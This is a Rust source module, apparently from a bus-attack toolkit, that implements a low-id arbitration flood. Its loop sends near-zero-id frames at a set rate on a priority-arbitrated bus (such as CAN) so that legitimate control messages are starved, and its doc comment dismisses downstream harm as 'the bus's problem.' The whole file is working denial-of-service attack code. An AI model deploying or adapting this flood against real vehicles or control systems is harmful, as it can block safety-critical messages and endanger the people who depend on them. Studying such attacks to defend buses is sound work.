//! Low-id arbitration flooding.
//!
//! On a priority-arbitrated bus the lowest id always wins, so a tight loop
//! of near-zero-id frames starves every legitimate control message. The
//! driver only needs the send capability; whether anything downstream
//! actually suffers is the bus's problem, which is the attack's whole
//! premise.

use std::time::Duration;

use tracing::{info, warn};

use crate::{command, SharedSink};

/// Flood parameters.
#[derive(Debug, Clone, Copy)]
pub struct FloodConfig {
    /// Arbitration id to saturate the bus with.
    pub id: u32,
    /// Frames per second.
    pub rate_per_sec: u32,
}

impl Default for FloodConfig {
    fn default() -> Self {
        Self {
            id: command::FLOOD_ID,
            rate_per_sec: 500,
        }
    }
}

/// Drive the flood until the owning task is cancelled. Logs a progress
/// line once per thousand frames so the log stays readable at 500 msg/s.
pub async fn run_flood(sink: SharedSink, config: FloodConfig) {
    if config.rate_per_sec == 0 {
        warn!("flood rate is zero, nothing to send");
        return;
    }
    let delay = Duration::from_secs_f64(1.0 / f64::from(config.rate_per_sec));
    info!(
        id = format_args!("{:#05x}", config.id),
        rate = config.rate_per_sec,
        "starting low-id flood"
    );

    let mut sent: u64 = 0;
    loop {
        sink.send_command(config.id, &command::FLOOD_DATA);
        sent += 1;
        if sent % 1000 == 0 {
            info!(sent, "flood frames on the bus");
        }
        tokio::time::sleep(delay).await;
    }
}
